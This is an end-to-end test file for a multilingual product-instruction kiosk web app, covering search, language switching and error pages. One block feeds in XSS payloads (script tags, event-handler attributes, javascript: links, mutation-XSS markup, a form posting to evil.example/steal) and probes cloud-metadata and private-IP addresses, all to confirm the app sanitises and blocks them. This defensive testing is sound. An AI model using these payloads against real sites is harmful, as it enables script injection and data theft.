import type { Browser, Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AdminInstructionDetail } from '../../common/api/instructions';
import type { Category } from '../../common/api/categories';
import { closedDoor, screenshot } from '../support/browser';
import type { ServerProcess } from '../support/server-process';
import { useEndToEnd } from '../support/e2e-fixture';
import { jsonCall } from '../support/json-call';
import { pageSettled } from '../support/page-settled';
import { requestsSentDuring } from '../support/sent-requests';

let server: ServerProcess;
let browser: Browser;
const pages: Page[] = [];

async function open(urlPath: string, viewport = { width: 1280, height: 900 }): Promise<Page> {
  const page = await browser.newPage({ viewport });
  pages.push(page);
  await page.goto(`${server.url}${urlPath}`);
  return page;
}

function pathOf(page: Page): string {
  return decodeURIComponent(new URL(page.url()).pathname);
}

const e2e = useEndToEnd({ process: {} });
beforeAll(() => {
  ({ server, browser } = e2e);
});

describe('public kiosk pages', () => {
  it('shows the search card and finds an article by picking a suggestion', async () => {
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    pages.push(page);
    const scripts: string[] = [];
    page.on('request', (request) => {
      if (request.resourceType() === 'script') scripts.push(request.url());
    });
    await page.goto(`${server.url}/`);
    await expect
      .poll(() => page.getByRole('heading', { name: 'Find Your Instructions' }).isVisible())
      .toBe(true);
    await expect
      .poll(() =>
        page
          .getByText('Enter an article number and select your language to access the instructions.')
          .isVisible(),
      )
      .toBe(true);
    await expect
      .poll(() => page.getByText('If you need assistance, please contact support.').isVisible())
      .toBe(true);
    await expect.poll(() => page.locator('footer').innerText()).toContain(String(new Date().getFullYear()));
    expect(await page.locator('html').getAttribute('lang')).toBe('en');
    await screenshot(page, 'public-home');

    const field = page.getByRole('combobox', { name: 'Article number' });
    const submit = page.getByRole('button', { name: 'Find Instructions' });
    const before = await submit.boundingBox();
    await field.click();
    await field.pressSequentially('avn-r1');
    const suggestion = page.getByRole('option', { name: 'AVN-R110', exact: true });
    await suggestion.waitFor();
    // The list overlays the page: opening it moves nothing below the field.
    expect(await submit.boundingBox()).toEqual(before);
    const list = page.getByRole('listbox');
    expect(await list.evaluate((element) => getComputedStyle(element).maxHeight)).toBe('240px');
    await screenshot(page, 'public-home-suggestions');

    // On a kiosk, picking a suggestion opens the product at once.
    await suggestion.click();
    await page.waitForURL('**/instructions/AVN-R110/en');
    await page.getByRole('heading', { name: 'Product: AVN-R110' }).waitFor();
    // The kiosk never loads the admin area's code.
    expect(scripts.filter((url) => /AdminApp|LoginPage/.test(url))).toEqual([]);
  });

  it('works with the keyboard alone: arrows pick, Escape closes', async () => {
    const page = await open('/');
    const field = page.getByRole('combobox', { name: 'Article number' });
    await field.focus();
    await page.keyboard.type('KCH-E');
    await page.getByRole('option').first().waitFor();
    const first = await page.getByRole('option').first().innerText();
    await page.keyboard.press('ArrowDown');
    await expect.poll(() => page.getByRole('option').first().getAttribute('aria-selected')).toBe('true');
    await page.keyboard.press('Enter');
    await page.waitForURL(`**/instructions/${encodeURIComponent(first)}/en`);
    await page.goto(`${server.url}/`);
    await field.focus();
    await page.keyboard.type('KCH-E2');
    await page.getByRole('option').first().waitFor();
    await page.keyboard.press('Escape');
    await expect.poll(() => page.getByRole('listbox').isVisible()).toBe(false);
    // An outside click closes the list too.
    await page.keyboard.press('Backspace');
    await page.getByRole('option').first().waitFor();
    await page.getByRole('heading', { name: 'Find Your Instructions' }).click();
    await expect.poll(() => page.getByRole('listbox').isVisible()).toBe(false);
  });

  it('submits what a barcode scanner typed, not a highlighted suggestion', async () => {
    const page = await open('/');
    const field = page.getByRole('combobox', { name: 'Article number' });
    // Filled, not typed: keys typed in a burst are timed as a scan, and on a loaded machine a late
    // key would start a second burst, which the page rightly takes for a scan of its own.
    await field.fill('AVN-R1');
    // Suggestions for the partial number are showing when the rest of the scan arrives.
    await page.getByRole('option').first().waitFor();
    await page.keyboard.type('30');
    await page.keyboard.press('Enter');
    await page.waitForURL('**/instructions/AVN-R130/en');
    await page.getByRole('heading', { name: 'Product: AVN-R130' }).waitFor();
  });

  it('says the article number is required when the field is empty', async () => {
    const page = await open('/');
    await page.getByRole('button', { name: 'Find Instructions' }).click();
    await page.getByText('Article number is required').waitFor();
    expect(pathOf(page)).toBe('/');
    await screenshot(page, 'public-home-validation');
  });

  it('switches the interface language from the home dropdown at once', async () => {
    const page = await open('/');
    await page.getByLabel('Language').selectOption('de');
    await page.getByRole('heading', { name: 'Finden Sie Ihre Anleitungen' }).waitFor();
    expect(await page.locator('html').getAttribute('lang')).toBe('de');
    await screenshot(page, 'public-home-de');
    await page.getByRole('combobox', { name: 'Artikelnummer' }).fill('AVN-R110');
    await page.getByRole('button', { name: 'Anleitungen finden' }).click();
    await page.waitForURL('**/instructions/AVN-R110/de');
    await page.getByRole('heading', { name: 'Produkt: AVN-R110' }).waitFor();
  });

  it('lists the instructions by type, searches them and switches language', async () => {
    const page = await open('/instructions/avn-r110/en');
    // The address is rewritten to the number as the page shows it.
    await page.waitForURL('**/instructions/AVN-R110/en');
    await page.getByRole('heading', { name: 'Product: AVN-R110' }).waitFor();
    await page.getByRole('link', { name: /Soundbar quick start/ }).waitFor();
    expect(await page.locator('section h2').allInnerTexts()).toEqual([
      'User Manual',
      'Technical Manual',
      'Troubleshooting',
    ]);
    await screenshot(page, 'public-instruction-list');

    const search = page.getByPlaceholder('Search instructions...');
    await search.fill('QUICK START');
    await expect
      .poll(() => page.locator('.instruction-card-title').allInnerTexts())
      .toEqual(['Soundbar quick start']);
    // A translated title matches too.
    await search.fill('schnellstart');
    await expect
      .poll(() => page.locator('.instruction-card-title').allInnerTexts())
      .toEqual(['Soundbar quick start']);
    await search.fill('no such words');
    await page.getByText('No instructions match your search query. Try different keywords.').waitFor();
    await screenshot(page, 'public-instruction-list-no-match');
    await search.fill('');

    // A visitor who scrolled down sees the next page from its top.
    await page.setViewportSize({ width: 360, height: 400 });
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
    await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(0);
    await page.getByLabel('Language').selectOption('fr');
    await page.waitForURL('**/instructions/AVN-R110/fr');
    await page.getByRole('heading', { name: 'Produit : AVN-R110' }).waitFor();
    await page.getByRole('link', { name: /Démarrage rapide de la barre de son/ }).waitFor();
    expect(await page.locator('html').getAttribute('lang')).toBe('fr');
    expect(await page.evaluate(() => window.scrollY)).toBe(0);
  });

  it('falls back to English for a language it does not ship', async () => {
    const page = await open('/instructions/AVN-R110/xx');
    await page.waitForURL('**/instructions/AVN-R110/en');
    await page.getByRole('heading', { name: 'Product: AVN-R110' }).waitFor();
  });

  it('opens an instruction, switches its language and goes back', async () => {
    const page = await open('/instructions/AVN-R110/en');
    await page.getByRole('link', { name: /Soundbar quick start/ }).click();
    await page.waitForURL('**/instructions/AVN-R110/en/INS-000001');
    await page.getByRole('heading', { name: 'Soundbar quick start', level: 1 }).waitFor();
    expect(await page.title()).toBe('Soundbar quick start · Instruction Library');
    await page.getByText('Article AVN-R110').waitFor();
    await page.getByText('Instruction INS-000001').waitFor();
    await page.getByRole('heading', { name: 'Getting started' }).waitFor();
    const note = page.locator('.instruction-content .content-callout-note');
    expect(await note.innerText()).toContain('The TV speakers switch off automatically');
    expect(await page.locator('.instruction-content img').getAttribute('src')).toMatch(/^\/api\/media\/\d+$/);
    await screenshot(page, 'public-instruction');

    await page.getByLabel('Language').selectOption('de');
    await page.waitForURL('**/instructions/AVN-R110/de/INS-000001');
    await page.getByRole('heading', { name: 'Soundbar Schnellstart', level: 1 }).waitFor();
    await page.getByRole('heading', { name: 'Erste Schritte' }).waitFor();

    await page.getByRole('button', { name: 'Zurück zu den Anleitungen' }).click();
    await page.waitForURL('**/instructions/AVN-R110/de');
    await page.getByRole('heading', { name: 'Produkt: AVN-R110' }).waitFor();
  });

  it('says when an instruction has no content in the chosen language', async () => {
    const page = await open('/instructions/AVN-R110/it/INS-000002');
    await page.getByText('Nessun contenuto disponibile').waitFor();
    // Language names inside a sentence follow the language's own rules (lower case in Italian).
    await page.getByText(/non è disponibile in italiano\./).waitFor();
    await screenshot(page, 'public-instruction-no-content');
    // The notice offers the languages that do have content.
    await page.getByRole('link', { name: /English/ }).click();
    await page.waitForURL('**/instructions/AVN-R110/en/INS-000002');
  });

  it('shows Article Number Not Found for an unknown number', async () => {
    const page = await open('/');
    await page.getByRole('combobox', { name: 'Article number' }).fill('NOPE-404');
    await page.keyboard.press('Enter');
    await page.waitForURL('**/instructions/NOPE-404/en');
    await page.getByRole('heading', { name: 'Article Number Not Found' }).waitFor();
    await page.getByText('Article number: NOPE-404').waitFor();
    await page.getByText('The article number was entered incorrectly.').waitFor();
    const stillStuck = await page.getByText(/Still stuck/).boundingBox();
    const newSearch = await page.getByRole('button', { name: 'Search again' }).boundingBox();
    // The button stands apart from the text above it instead of touching its last line.
    expect((newSearch?.y ?? 0) - ((stillStuck?.y ?? 0) + (stillStuck?.height ?? 0))).toBeGreaterThanOrEqual(
      12,
    );
    await screenshot(page, 'public-article-not-found');

    const article = await open('/article/NOPE-404');
    await article.getByRole('heading', { name: 'Article Number Not Found' }).waitFor();
  });

  it('shows an article at /article/{n} and leads to its instructions', async () => {
    const page = await open('/article/AVN-R110');
    await page.getByRole('heading', { name: 'Product: AVN-R110' }).waitFor();
    await screenshot(page, 'public-article');
    await page.getByLabel('Language').selectOption('nl');
    await page.getByRole('heading', { name: 'Artikel: AVN-R110' }).waitFor();
    await page.getByRole('button', { name: 'Instructies bekijken' }).click();
    await page.waitForURL('**/instructions/AVN-R110/nl');
  });

  it('shows the 404 page for an unknown path', async () => {
    const page = await open('/no/such/page');
    await page.getByRole('heading', { name: '404 Page Not Found' }).waitFor();
    await page.getByText('Did you forget to add the page to the router?').waitFor();
    await screenshot(page, 'public-not-found');
  });

  it('stays readable on a 360 px phone', async () => {
    for (const urlPath of ['/', '/instructions/AVN-R110/en', '/instructions/AVN-R110/en/INS-000001']) {
      const page = await open(urlPath, { width: 360, height: 740 });
      await page.locator('main h1').first().waitFor();
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      expect(overflow, urlPath).toBeLessThanOrEqual(0);
      const small = await page.evaluate(() =>
        Array.from(document.querySelectorAll<HTMLElement>('main button, main input, main select, main a'))
          .filter((element) => element.offsetParent !== null)
          .filter((element) => element.getBoundingClientRect().height < 44)
          .map((element) => element.outerHTML.slice(0, 80)),
      );
      expect(small, urlPath).toEqual([]);
    }
    const phone = pages.at(-3);
    if (phone) await screenshot(phone, 'public-home-phone');
  });
});

describe('hostile instruction content', () => {
  const call = (method: string, urlPath: string, cookie: string, body: unknown) =>
    jsonCall(server.url, method, urlPath, cookie, body);

  let cookie = '';
  let categoryId = 0;

  beforeAll(async () => {
    cookie = (await call('POST', '/api/register', '', { username: 'admin', password: 'secret-password' }))
      .cookie;
    categoryId = ((await call('POST', '/api/admin/categories', cookie, { name: 'Hostile' })).body as Category)
      .id;
    await call('POST', '/api/admin/article-numbers/bulk', cookie, {
      number: 'EVIL-001',
      categoryIds: [categoryId],
    });
  });

  it('renders nothing that runs, loads or navigates', async () => {
    const hostileMarkdown = [
      '# Harmless heading',
      '',
      '[click me](javascript:window.__pwned=1)',
      '',
      '[encoded](jav&#x09;ascript:window.__pwned=2)',
      '',
      '> warning: Stay safe',
    ].join('\n');
    const hostileHtml = [
      '<h2>Harmless HTML</h2>',
      '<script>window.__pwned = 3; alert(3)</script>',
      '<img src="x" onerror="window.__pwned=4; alert(4)">',
      '<svg onload="window.__pwned=5"><script>alert(5)</script></svg>',
      '<iframe srcdoc="<script>parent.__pwned=7</script>"></iframe>',
      '<a id="evil-link" href="JaVaScRiPt:window.__pwned=8">evil link</a>',
      '<form action="https://evil.example/steal"><input name="pw"><button>Send</button></form>',
      '<style>body { display: none !important; }</style>',
      '<meta http-equiv="refresh" content="0;url=/pwned">',
      '<base href="https://evil.example/">',
      '<object data="javascript:alert(9)"></object><embed src="javascript:alert(10)">',
      '<div style="position:fixed;inset:0;background:red" onmouseover="alert(11)">overlay</div>',
      '<details open ontoggle="window.__pwned=12">x</details>',
      // Unclosed on purpose, and last: it swallows whatever follows it.
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(6)>',
    ].join('\n');
    const created = await call('POST', '/api/admin/instructions', cookie, {
      instruction: {
        title: 'Hostile instruction',
        type: 'user_manual',
        isUniversal: false,
        excludePatterns: [],
        categoryId,
      },
      contents: { en: hostileMarkdown, de: hostileHtml },
      titles: { de: '<img src=x onerror=alert(13)>' },
    });
    const { instructionNumber } = created.body as AdminInstructionDetail;

    for (const language of ['en', 'de'] as const) {
      const page = await open(`/instructions/EVIL-001/${language}/${instructionNumber}`);
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const expectedPath = `/instructions/EVIL-001/${language}/${instructionNumber}`;
      // Every image loaded or failed (so its error handler would have run), and what the page queued
      // meanwhile has run too.
      await requestsSentDuring(page, () =>
        pageSettled(page, '.instruction-content h1, .instruction-content h2'),
      );

      const injected = await page.evaluate(() => {
        const root = document.querySelector('.instruction-content');
        const found: string[] = [];
        root
          ?.querySelectorAll(
            'script, iframe, svg, math, style, form, input, button, object, embed, meta, base, link',
          )
          .forEach((element) => found.push(element.localName));
        root?.querySelectorAll('*').forEach((element) => {
          for (const attribute of Array.from(element.attributes)) {
            if (attribute.name.startsWith('on') || attribute.name === 'style')
              found.push(`${element.localName}[${attribute.name}]`);
            const scheme = Array.from(attribute.value)
              .filter((char) => char.charCodeAt(0) > 0x20)
              .join('');
            if (/^javascript:/i.test(scheme)) found.push(`${attribute.name}=javascript:`);
          }
        });
        if (document.querySelector('base, meta[http-equiv]')) found.push('head injection');
        return { found, pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null };
      });
      expect(injected).toEqual({ found: [], pwned: null });
      expect(await page.locator('h1 img').count()).toBe(0);

      // Clicking what used to be a javascript: link does nothing.
      const link = page.locator('.instruction-content a').first();
      await requestsSentDuring(page, () => link.click());
      expect(dialogs).toEqual([]);
      expect(pathOf(page)).toBe(expectedPath);
      expect(await page.locator('body').isVisible()).toBe(true);
      await screenshot(page, `public-instruction-hostile-${language}`);
    }
  });

  async function remoteImagePage(original: string): Promise<Page> {
    const created = await call('POST', '/api/admin/instructions', cookie, {
      instruction: {
        title: `Remote image ${original}`,
        type: 'technical_manual',
        isUniversal: false,
        excludePatterns: [],
        categoryId,
      },
      contents: { en: `![pump](${original})` },
      titles: {},
    });
    return open(`/instructions/EVIL-001/en/${(created.body as AdminInstructionDetail).instructionNumber}`);
  }

  it('falls back to the original address when the image proxy could not fetch it', async () => {
    // The name cannot resolve, so the proxy answers 502.
    const original = 'http://pump-images.invalid/pump.png';
    const page = await remoteImagePage(original);
    const image = page.locator('.instruction-content img');
    await image.waitFor({ state: 'attached' });
    await expect.poll(() => image.getAttribute('src'), { timeout: 30_000 }).toBe(original);
  });

  it('keeps the proxied address when the proxy refused the image', async () => {
    // A documentation-range address is not a public internet host: the proxy answers 403.
    const page = await remoteImagePage('http://192.0.2.1/pump.png');
    const image = page.locator('.instruction-content img');
    await image.waitFor({ state: 'attached' });
    await expect
      .poll(() =>
        page.evaluate(
          () =>
            performance
              .getEntriesByType('resource')
              .filter((entry) => entry.name.includes('/api/proxy-image?url=')).length,
        ),
      )
      .toBeGreaterThanOrEqual(2);
    expect(await image.getAttribute('src')).toMatch(/^\/api\/proxy-image\?url=/);
  });

  it('reaches nothing beyond this machine from the test browser', async () => {
    const door = await closedDoor();
    const outside = [
      'http://169.254.169.254/latest/meta-data/',
      'http://10.0.0.1/',
      'http://evil.example/steal',
      'https://evil.example/steal',
    ];
    const reached: boolean[] = [];
    for (const url of [...outside, `${server.url}/api/health`]) {
      const page = await browser.newPage();
      reached.push(
        await page.goto(url).then(
          (response) => response !== null,
          () => false,
        ),
      );
      await page.close();
    }
    expect(reached).toEqual([false, false, false, false, true]);
    expect(door.knocks).toEqual(
      expect.arrayContaining([
        'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1',
        'GET http://10.0.0.1/ HTTP/1.1',
        'GET http://evil.example/steal HTTP/1.1',
        'CONNECT evil.example:443 HTTP/1.1',
      ]),
    );
  });
});
